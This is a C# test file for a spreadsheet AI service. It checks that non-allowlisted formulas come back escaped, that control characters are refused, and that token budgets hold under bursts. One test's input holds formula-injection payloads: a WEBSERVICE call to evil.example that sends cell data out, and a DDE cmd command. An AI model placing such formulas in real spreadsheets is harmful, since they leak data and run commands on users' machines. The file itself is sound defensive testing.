using System.Net;
using System.Net.Http.Json;
using System.Text.Json;

namespace GigaOffice.Tests.Clients;

/// <summary>Issue 33: formulas that reach out never come back, control characters are refused, the token budget is reserved.</summary>
public sealed class InputOutputSafetyTests
{
    [Fact]
    public async Task Formulas_outside_the_allowlist_come_back_as_text_and_are_named_in_repairs()
    {
        await using var app = new TestApp().WithServiceDefaults();
        var client = app.CreateClient();
        var id = await ApiCalls.AcceptedIdAsync(await client.PostAsJsonAsync("/api/ai/process", new
        {
            query_text = "Отсортируй по сумме",
            input_range = "A1:C4",
            category = "spreadsheet-transformation",
            input_data = new object[][]
            {
                ["Товар", "Сумма", "Заметка"],
                ["A", 100, "=WEBSERVICE(\"http://evil.example/\"&B2)"],
                ["B", 80, "=cmd|' /C calc'!A0"],
                ["C", 90, "=SUM(B2:B3)"],
            },
        }));
        await ApiCalls.WaitFinishedAsync(client, id);
        var result = (await client.GetFromJsonAsync<JsonElement>($"/api/ai/result/{id}")).GetProperty("result");
        var cells = result.GetProperty("table").EnumerateArray().SelectMany(r => r.EnumerateArray())
            .Where(c => c.ValueKind == JsonValueKind.String).Select(c => c.GetString()!).ToList();

        Assert.Contains("'=WEBSERVICE(\"http://evil.example/\"&B2)", cells);
        Assert.Contains("'=cmd|' /C calc'!A0", cells);
        Assert.Contains("=SUM(B2:B3)", cells);
        Assert.DoesNotContain(cells, c => c.StartsWith("=WEBSERVICE") || c.StartsWith("=cmd"));
        Assert.Contains(result.GetProperty("repairs").EnumerateArray(), r => r.GetString()!.Contains("формулы вне списка разрешённых"));

        // The structured API builds its document from the same stored answer.
        var document = await client.GetStringAsync($"/api/v1/ai/result/{id}");
        Assert.DoesNotContain("\"=WEBSERVICE", document);
        Assert.DoesNotContain("\"=cmd|", document);
    }

    public static TheoryData<string, object, string> ControlCharacterBodies => new()
    {
        { "/api/ai/process", new { query_text = "x\u0000", input_range = "A1:A1", input_data = new object[][] { ["a"] } }, "query_text" },
        { "/api/ai/process", new { query_text = "Сумма", input_range = "A1:B1", input_data = new object[][] { ["a", "b\u001b[2J"] } }, "input_data[0][1]" },
        { "/api/v1/ai/process", new { query_text = "Сумма", worksheet = new { name = "Лист\u0000" }, data = new { rows = new[] { new { values = new object[] { 1 } } } } }, "worksheet.name" },
        { "/api/ai/process", new { query_text = "Сумма", input_range = "A1:B1", input_data = new object[][] { ["°C", "a\u0085\u007f"] } }, "input_data[0][1]" },
        { "/api/ai/feedback", new { request_id = Guid.NewGuid(), rating = 3, comment = "ok\u0007" }, "comment" },
        { "/api/prompts/classify", new { query_text = "диаграмма\u0000" }, "query_text" },
    };

    [Theory]
    [MemberData(nameof(ControlCharacterBodies))]
    public async Task Control_characters_in_text_fields_are_refused_naming_the_field_on_sqlite(string url, object body, string field)
    {
        await using var app = new TestApp().WithServiceDefaults();
        await AssertRefusedAsync(app.CreateClient(), url, body, field);
    }

    [Fact]
    public async Task Nul_in_text_fields_is_a_400_not_a_500_on_postgresql()
    {
        var server = await SharedPostgres.GetAsync();
        var name = "t" + Guid.NewGuid().ToString("N")[..12];
        await server.CreateDatabaseAsync(name);
        await using var app = new TestApp(new Dictionary<string, string?>
        {
            ["Database:Host"] = server.Host, ["Database:Port"] = server.Port.ToString(), ["Database:Name"] = name,
            ["Database:User"] = server.User, ["Database:Password"] = server.Password,
            ["Admin:ApiKey"] = TestApp.AdminKey,
        });
        var client = app.CreateClient();
        foreach (var row in ControlCharacterBodies)
            await AssertRefusedAsync(client, (string)row[0], row[1], (string)row[2]);

        client.DefaultRequestHeaders.Add("X-Admin-Key", TestApp.AdminKey);
        await AssertRefusedAsync(client, "/api/admin/keys", new { name = "plug\u0000in" }, "name");
        var tab = await client.PostAsJsonAsync("/api/ai/process", new { query_text = "Сумма\tпо\r\nстрокам", input_range = "A1:A1", input_data = new object[][] { ["a\tb"] } });
        Assert.Equal(HttpStatusCode.Accepted, tab.StatusCode);
    }

    private static async Task AssertRefusedAsync(HttpClient client, string url, object body, string field)
    {
        var response = await client.PostAsJsonAsync(url, body);
        var text = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{url}: expected 400, got {(int)response.StatusCode}: {text}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        var errors = JsonDocument.Parse(text).RootElement.GetProperty("errors");
        Assert.True(errors.TryGetProperty(field, out _), $"{url}: expected an error for {field}: {text}");
    }

    [Fact]
    public async Task A_burst_against_the_daily_budget_overshoots_by_at_most_one_request()
    {
        // The model answers after 3 s, so every request of the burst is still pending when the others arrive.
        await using var app = new TestApp(new() { ["GigaChat:DryRunDelayMs"] = "3000" }).WithServiceDefaults().WithAuth();
        var (_, key) = await app.CreateKeyAsync("budgeted", requestsPerMinute: 1000, dailyTokenBudget: 2000);
        var client = app.ClientWithKey(key);

        var responses = await Task.WhenAll(Enumerable.Range(0, 30).Select(i => ApiCalls.ProcessAsync(client, $"Проанализируй данные продаж {i}")));

        var accepted = responses.Where(r => r.StatusCode == HttpStatusCode.Accepted).ToList();
        Assert.All(responses, r => Assert.Contains(r.StatusCode, new[] { HttpStatusCode.Accepted, HttpStatusCode.TooManyRequests }));
        Assert.NotEmpty(accepted);
        Assert.True(accepted.Count < responses.Length, "the budget refused the rest of the burst");
        var tokens = new List<int>();
        foreach (var response in accepted)
        {
            var id = await ApiCalls.AcceptedIdAsync(response);
            await ApiCalls.WaitFinishedAsync(client, id);
            tokens.Add((await client.GetFromJsonAsync<JsonElement>($"/api/ai/result/{id}")).GetProperty("tokens").GetProperty("total").GetInt32());
        }
        // Everything but the last accepted request fitted the budget: the overshoot is at most one request.
        Assert.True(tokens.Sum() - tokens.Max() < 2000, $"accepted {accepted.Count}, tokens {string.Join(", ", tokens)}");
    }
}
